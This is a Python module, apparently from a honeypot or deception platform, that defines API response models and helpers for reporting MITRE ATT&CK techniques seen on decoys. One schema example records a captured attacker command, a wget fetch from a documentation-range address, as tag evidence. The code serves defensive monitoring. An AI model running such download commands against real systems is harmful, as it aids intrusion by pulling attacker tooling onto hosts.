"""What several routes show: techniques with their sums, and tags with what proves them."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from uuid import UUID

from pydantic import BaseModel, ConfigDict, Field

from decnet.errors import CatalogueError
from decnet.models.attack_ids import TacticId
from decnet.models.ids import uuid_text

if TYPE_CHECKING:
    from collections.abc import Mapping

    from decnet.attack.catalog import Catalog
    from decnet.models.rollup import TechniqueCount
    from decnet.models.stored_tag import StoredTag
    from decnet.web.place import WebPlace

MOST_CHARS = 4_096
"""Longest text of an attacker within a list."""


class Seen(BaseModel):
    """A technique under a tactic, and how often it was seen. Times are µs UTC."""

    model_config = ConfigDict(
        json_schema_extra={
            "examples": [
                {
                    "tactic": "TA0002",
                    "tactic_name": "Execution",
                    "technique_id": "T1059",
                    "sub_technique_id": "T1059.004",
                    "name": "Unix Shell",
                    "url": "https://attack.mitre.org/techniques/T1059/004/",
                    "attack_release": "enterprise-19.2",
                    "count": 12,
                    "first_seen": 1795003200000000,
                    "last_seen": 1795006800000000,
                    "max_confidence": 0.9,
                    "shown_confidence": 0.9,
                }
            ]
        }
    )

    tactic: str
    tactic_name: str
    technique_id: str
    sub_technique_id: str | None
    name: str = Field(description="Of the sub-technique where there is one. Empty when its release is not at hand.")
    url: str = Field(description="MITRE's page.")
    attack_release: str
    count: int
    first_seen: int
    last_seen: int
    max_confidence: float
    shown_confidence: float = Field(description="With what providers of intelligence add to it.")


class Tag(BaseModel):
    """One event shows one technique. Times are µs UTC; the evidence is attackers' text."""

    model_config = ConfigDict(
        json_schema_extra={
            "examples": [
                {
                    "observed_at": 1795003200000000,
                    "uuid": "0f9b6c1e-3c1d-5a43-9a7e-0d5b8e3f6a11",
                    "created_at": 1795003201000000,
                    "tactic": "TA0011",
                    "technique_id": "T1105",
                    "sub_technique_id": None,
                    "attack_release": "enterprise-19.2",
                    "confidence": 0.85,
                    "rule_id": "R0012",
                    "rule_version": 3,
                    "source_kind": "command",
                    "source_id": "01a2060c0872559681325720b046f48c",
                    "attacker_uuid": "6e24fa0b-6ed0-5214-ba4a-03736e207982",
                    "address": "198.51.100.7",
                    "identity_uuid": "2d1f7a34-97b2-5a0a-8c0f-7f1f8d8f3f10",
                    "session_uuid": "9d0b7a51-0d3c-5f0d-9c8e-0e1b1d7f2c33",
                    "protocol": "ssh",
                    "decoy": "svr04",
                    "evidence": {
                        "matched": "wget http://203.0.113.7/x",
                        "start": 0,
                        "end": 25,
                        "terms": ["match.exec"],
                    },
                }
            ]
        }
    )

    observed_at: int
    uuid: str
    created_at: int
    tactic: str
    technique_id: str
    sub_technique_id: str | None
    attack_release: str
    confidence: float
    rule_id: str
    rule_version: int
    source_kind: str
    source_id: str = Field(description="The event, in hexadecimal digits, or the finding that it is on.")
    attacker_uuid: str | None
    address: str | None
    identity_uuid: str
    session_uuid: str | None
    protocol: str | None
    decoy: str | None
    evidence: dict[str, Any] = Field(description="What proves it, by source kind; see the reference on tags.")


def seen(place: WebPlace, counts: list[TechniqueCount]) -> list[Seen]:
    """Sums with the names of their techniques."""
    catalogs = {release: _catalog(place, release) for release in {count.attack_release for count in counts}}
    tactics = {
        release: {tactic.id: tactic.name for tactic in catalog.tactics} if catalog is not None else {}
        for release, catalog in catalogs.items()
    }
    return [_seen(catalogs[count.attack_release], tactics[count.attack_release], count) for count in counts]


def tag_shown(stored: StoredTag) -> Tag:
    """A stored tag as it is answered."""
    return Tag(
        observed_at=stored.observed_at,
        uuid=uuid_text(stored.uuid),
        created_at=stored.created_at,
        tactic=stored.tactic,
        technique_id=stored.technique_id,
        sub_technique_id=stored.sub_technique_id,
        attack_release=stored.attack_release,
        confidence=stored.confidence,
        rule_id=stored.rule_id,
        rule_version=stored.rule_version,
        source_kind=stored.source_kind,
        source_id=stored.source_id,
        attacker_uuid=maybe_uuid(stored.attacker_uuid),
        address=stored.address,
        identity_uuid=uuid_text(stored.identity_uuid),
        session_uuid=maybe_uuid(stored.session_uuid),
        protocol=stored.protocol,
        decoy=stored.decoy,
        evidence=dict(stored.evidence),
    )


def maybe_uuid(uuid: bytes | None) -> str | None:
    """``uuid`` as text, where there is one."""
    return uuid_text(uuid) if uuid is not None else None


def uuid_in(text: str) -> bytes | None:
    """The 16 bytes of a uuid in any spelling, None for other text."""
    try:
        return UUID(text).bytes
    except ValueError:
        return None


def capped(value: Any, most: int = MOST_CHARS) -> Any:
    """``value`` with every text in it cut to ``most`` characters; what was cut ends in ``…``."""
    if isinstance(value, str):
        return value if len(value) <= most else value[: most - 1] + "…"
    if isinstance(value, dict):
        return {name: capped(part, most) for name, part in value.items()}
    return [capped(part, most) for part in value] if isinstance(value, list | tuple) else value


def _catalog(place: WebPlace, release: str) -> Catalog | None:
    """The catalogue in whose words a stored tag speaks; None when it is no longer at hand."""
    if release == place.newest.release:
        return place.newest
    try:
        return place.catalog_of(release)
    except CatalogueError:
        return None


def _seen(catalog: Catalog | None, tactics: Mapping[TacticId, str], count: TechniqueCount) -> Seen:
    named = catalog.techniques.get(count.sub_technique_id or count.technique_id) if catalog is not None else None
    return Seen(
        tactic=count.tactic,
        tactic_name=tactics.get(TacticId(count.tactic), ""),
        technique_id=count.technique_id,
        sub_technique_id=count.sub_technique_id,
        name=named.name if named is not None else "",
        url=named.url if named is not None else "",
        attack_release=count.attack_release,
        count=count.count,
        first_seen=count.first_seen_us,
        last_seen=count.last_seen_us,
        max_confidence=count.max_confidence,
        shown_confidence=count.shown_confidence,
    )
